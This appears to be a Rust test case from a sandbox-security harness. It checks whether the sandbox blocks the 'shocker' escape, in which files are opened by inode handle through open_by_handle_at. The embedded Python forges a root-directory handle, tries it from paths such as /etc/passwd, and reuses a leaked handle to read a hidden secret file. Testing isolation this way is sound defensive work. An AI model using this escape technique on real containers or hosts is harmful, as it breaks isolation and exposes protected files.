//! The "shocker": files are opened by inode number, past every path.

use crate::harness::{Attack, Control};

attack!(
    files_cannot_be_opened_by_handle,
    Attack::python(
        r#"
known = bytes.fromhex(answer)
root = struct.pack("II", 8, 1) + struct.pack("II", 2, 0)
for handle in (known, root):
    for place in ("/", "/etc/passwd", "/usr", "/etc", arena, "/dev/shm", "/run"):
        try:
            fd = os.open(place, os.O_RDONLY)
            found = call(SYS_open_by_handle_at, fd, ctypes.create_string_buffer(handle), os.O_RDONLY)
        except OSError as error:
            note(f"{place}: {error}")
            continue
        if handle == known:
            leak(os.read(found, 100))
        else:
            escaped(f"opened inode 2 through {place}")
"#
    )
    .prepare(|arena| {
        arena.secret_file("outside/secret");
        arena.victim(
            r#"
import struct
handle = ctypes.create_string_buffer(struct.pack("II", 128, 0), 136)
mount = ctypes.c_int()
path = os.environ["TARGET"].encode()
assert libc.name_to_handle_at(-100, path, handle, ctypes.byref(mount), 0) == 0
answer = handle.raw[:8 + struct.unpack("I", handle.raw[:4])[0]].hex()
"#,
        );
    })
    .spec(|spec, arena| spec.hidden.push(arena.path("outside/secret")))
    .control(Control::Root)
);
